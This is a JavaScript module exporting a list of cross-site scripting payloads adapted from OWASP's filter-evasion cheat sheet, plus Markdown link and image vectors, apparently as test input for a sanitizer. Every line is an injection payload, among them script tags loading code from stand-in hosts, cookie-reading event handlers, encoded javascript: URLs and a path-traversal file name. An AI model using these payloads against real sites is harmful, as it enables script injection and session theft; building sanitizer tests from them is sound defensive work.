// SPDX-License-Identifier: CC-BY-SA-4.0

/**
 * Vectors of OWASP's XSS Filter Evasion Cheat Sheet, cheatsheetseries.owasp.org (CC BY-SA 4.0): hosts replaced, some
 * changed, others added, among them vectors in Markdown: links, autolinks and references.
 */
export const XSS_VECTORS = String.raw`
<SCRIPT SRC=https://cdn.example/xss.js></SCRIPT>
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(42);//'>
<a onmouseover="alert(document.cookie)">xxs link</a>
<a onmouseover=alert(document.cookie)>xxs link</a>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
<IMG SRC=# onmouseover="alert('xxs')">
<IMG SRC= onmouseover="alert('xxs')">
<IMG onmouseover="alert('xxs')">
<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>
<a href="&#106;avascript:alert(1)">a</a>
<a href="jav&#x09;ascript:alert('XSS');">a</a>
<a href="jav&#x0A;ascript:alert('XSS');">a</a>
<a href="jav&#x0D;ascript:alert('XSS');">a</a>
<a href=" &#14;  javascript:alert('XSS');">a</a>
<a href="java&#0000script:alert(1)">a</a>
<a href="JaVaScRiPt:alert(1)">a</a>
<a href="vbscript:msgbox('XSS')">a</a>
<a href="livescript:x">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=">a</a>
<SCRIPT/XSS SRC="https://cdn.example/xss.js"></SCRIPT>
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^${'`'}=alert("XSS")>
<SCRIPT/SRC="https://cdn.example/xss.js"></SCRIPT>
<<SCRIPT>alert("XSS");//\<</SCRIPT>
<SCRIPT SRC=https://cdn.example/xss.js?< B >
<SCRIPT SRC=//cdn.example/.j>
<IMG SRC="${'`'}('XSS')"${'`'}
<IMG SRC='javascript:alert(1)'
<iframe src=https://evil.example/scriptlet.html <
</script><script>alert('XSS');</script>
</TITLE><SCRIPT>alert("XSS");</SCRIPT>
<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">
<BODY BACKGROUND="javascript:alert('XSS')">
<IMG DYNSRC="javascript:alert('XSS')">
<IMG LOWSRC="javascript:alert('XSS')">
<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>
<svg/onload=alert('XSS')>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>
<math><a xlink:href="javascript:alert(1)">a</a></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<BODY ONLOAD=alert('XSS')>
<BGSOUND SRC="javascript:alert('XSS');">
<BR SIZE="&{alert('XSS')}">
<LINK REL="stylesheet" HREF="javascript:alert('XSS');">
<STYLE>@import'https://evil.example/xss.css';</STYLE>
<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">
<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">
<STYLE TYPE="text/javascript">alert('XSS');</STYLE>
<XSS STYLE="behavior: url(xss.htc);">
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">
<IFRAME SRC="javascript:alert('XSS');"></IFRAME>
<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>
<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>
<TABLE BACKGROUND="javascript:alert('XSS')">
<TABLE><TD BACKGROUND="javascript:alert('XSS')">
<DIV STYLE="background-image: url(javascript:alert('XSS'))">
<DIV STYLE="width: expression(alert('XSS'));">
<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->
<BASE HREF="javascript:alert('XSS');//">
<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>
<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>
<SCRIPT a=">" SRC="https://cdn.example/xss.js"></SCRIPT>
<A HREF="//evil.example/">XSS</A>
<A HREF="h&#9;tt&#9;p://6&#9;6.000146.0x7.147/">XSS</A>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video><source onerror="alert(1)"></video>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<isindex action="javascript:alert(1)" type=image>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<p id="x" class="y" style="position:fixed" onclick="alert(1)">x</p>
[a](javascript:alert(1))
[a](JaVaScRiPt:alert(1))
[a](java&#10;script:alert(1))
[a](data:text/html;base64,PHNjcmlwdD4=)
[a](<javascript:alert(1)>)
[a](https://ok.example "x" onmouseover="alert(1))
[a](//evil.example)
[a][1]  [1]: javascript:alert(1)
<javascript:alert(1)>
![x](javascript:alert(1))
![x](https://evil.example/track.png)
![x" onerror="alert(1)](/media/0f8fad5b-d9cb-469f-a165-70867728950e.webp)
![x](/media/../../etc/passwd.webp)
${'`'}${'`'}${'`'}html onload=alert(1)
# <img src=x onerror=alert(1)>
| <script>alert(1)</script> | <svg onload=alert(1)> |`
  .trim()
  .split('\n')
